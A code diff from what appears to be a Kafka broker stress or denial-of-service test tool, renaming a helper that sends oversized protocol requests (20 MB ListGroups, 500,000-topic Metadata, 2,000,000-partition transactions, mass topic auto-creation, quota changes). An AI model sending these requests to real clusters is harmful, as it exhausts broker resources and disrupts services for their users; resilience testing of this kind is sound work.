@@ -17,13 +17,17 @@ DESCRIBE_USER_SCRAM_CREDENTIALS: Final = 50
 
 def large_list_groups(target: AttackTarget) -> int:
     """A ListGroups of 20 MB, all of it states to filter by."""
-    return _ask(target, request(LIST_GROUPS, 4, states_filter=["x"]), (b"\x02x", 10_000_000))
+    return _send_enlarged(
+        target, request(LIST_GROUPS, 4, states_filter=["x"]), (b"\x02x", 10_000_000)
+    )
 
 
 def large_metadata(target: AttackTarget) -> int:
     """A Metadata of 9.5 MB, all of it names of topics."""
     topics = [{"name": f"no-such-topic-{topic_number}"} for topic_number in range(500_000)]
-    return _ask(target, request(METADATA, 9, topics=topics, allow_auto_topic_creation=False))
+    return _send_enlarged(
+        target, request(METADATA, 9, topics=topics, allow_auto_topic_creation=False)
+    )
 
 
 def largest_metadata(target: AttackTarget) -> int:
@@ -38,7 +42,7 @@ def largest_metadata(target: AttackTarget) -> int:
 def many_partitions_in_a_transaction(target: AttackTarget) -> int:
     """An AddPartitionsToTxn with 2,000,000 partitions."""
     topics = [{"name": "neighbour", "partitions": range(2_000_000)}]
-    return _ask(
+    return _send_enlarged(
         target,
         request(
             ADD_PARTITIONS_TO_TXN,
@@ -54,19 +58,21 @@ def many_partitions_in_a_transaction(target: AttackTarget) -> int:
 def delete_topics(target: AttackTarget) -> int:
     """A DeleteTopics of 19,990 names that no topic has."""
     topics = [{"name": f"no-such-{topic_number}"} for topic_number in range(19_990)]
-    return _ask(target, request(DELETE_TOPICS, 6, topics=topics, timeout=10_000))
+    return _send_enlarged(target, request(DELETE_TOPICS, 6, topics=topics, timeout=10_000))
 
 
 def auto_creation(target: AttackTarget) -> int:
     """A Metadata that asks for 4,900 topics to be made on the way."""
     topics = [{"name": f"made-on-the-way-{topic_number}"} for topic_number in range(4_900)]
-    return _ask(target, request(METADATA, 9, topics=topics, allow_auto_topic_creation=True))
+    return _send_enlarged(
+        target, request(METADATA, 9, topics=topics, allow_auto_topic_creation=True)
+    )
 
 
 def scram_users(target: AttackTarget) -> int:
     """A DescribeUserScramCredentials of 19,990 users."""
     users = [{"name": f"no-such-{user_number}"} for user_number in range(19_990)]
-    return _ask(target, request(DESCRIBE_USER_SCRAM_CREDENTIALS, 0, users=users))
+    return _send_enlarged(target, request(DESCRIBE_USER_SCRAM_CREDENTIALS, 0, users=users))
 
 
 def quotas(target: AttackTarget) -> int:
@@ -78,10 +84,12 @@ def quotas(target: AttackTarget) -> int:
         }
         for user_number in range(6_600)
     ]
-    return _ask(target, request(ALTER_CLIENT_QUOTAS, 1, entries=entries))
+    return _send_enlarged(target, request(ALTER_CLIENT_QUOTAS, 1, entries=entries))
 
 
-def _ask(target: AttackTarget, frame_bytes: bytes, more: tuple[bytes, int] = (b"", 0)) -> int:
+def _send_enlarged(
+    target: AttackTarget, frame_bytes: bytes, more: tuple[bytes, int] = (b"", 0)
+) -> int:
     """Send a request whose last array has more elements, and read the answer if one comes."""
     element, count = more
     if count:
